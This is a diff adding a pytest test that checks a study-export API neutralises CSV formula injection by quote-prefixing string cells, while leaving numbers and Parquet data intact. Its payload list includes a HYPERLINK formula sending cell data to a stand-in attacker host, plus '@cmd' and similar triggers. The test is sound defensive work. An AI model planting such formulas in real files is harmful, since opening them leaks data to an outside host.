@@ -372,6 +372,66 @@ def test_empty_study_exports_headers_and_empty_tables(client: TestClient) -> Non
         assert pq.read_table(io.BytesIO(zf.read("metrics.parquet"))).num_rows == 0
 
 
+# --- CSV injection ---------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+SUM(1,2)",
+    "-1+2",
+    "@cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    client: TestClient, engine: Engine
+) -> None:
+    """Issue 27: strings from the study (a categorical parameter's choices, a trial's error
+    or node) went into the CSV as they were, so `=HYPERLINK(...)` ran when the file was
+    opened in a spreadsheet. Now such a string cell starts with a single quote (OWASP);
+    numbers, negative ones included, and number literals in string columns stay as they
+    are; Parquet keeps the strings as stored."""
+    choices = [*FORMULAS, "plain"]
+    sid = create_via_api(
+        client,
+        {
+            "name": "formulas",
+            "budget": {"n_trials": 10},
+            "search_space": {"task.train_split": {"type": "categorical", "choices": choices}},
+        },
+    )
+    with Session(engine) as s:
+        for n, text in enumerate(choices):
+            s.add(
+                Trial(
+                    study_id=sid,
+                    number=n,
+                    state="FAILED",
+                    params={"task.train_split": text, "mixed": -3 if n % 2 else text},
+                    value=-1.5 - n,
+                    error=text,
+                    node=f"@node-{n}",
+                    summary={"qk_eig_mean": -0.25},
+                )
+            )
+        s.commit()
+    r = get(client, sid)
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))
+    assert len(rows) == len(choices)
+    for n, (row, text) in enumerate(zip(rows, choices, strict=True)):
+        want = text if text == "plain" else "'" + text
+        assert row["params.task.train_split"] == want, (row, text)
+        assert row["error"] == want
+        assert row["node"] == f"'@node-{n}"
+        assert row["params.mixed"] == ("-3" if n % 2 else want)
+        assert row["value"] == repr(-1.5 - n) and row["qk_eig_mean"] == "-0.25"
+    table = pacsv.read_csv(io.BytesIO(r.content))
+    assert table.column("value").type == pa.float64()  # the negatives are still numbers
+    stored = pq.read_table(io.BytesIO(get(client, sid, format="parquet").content))
+    assert stored.column("params.task.train_split").to_pylist() == choices
+
+
 # --- streaming -----------------------------------------------------------------------------
 
 
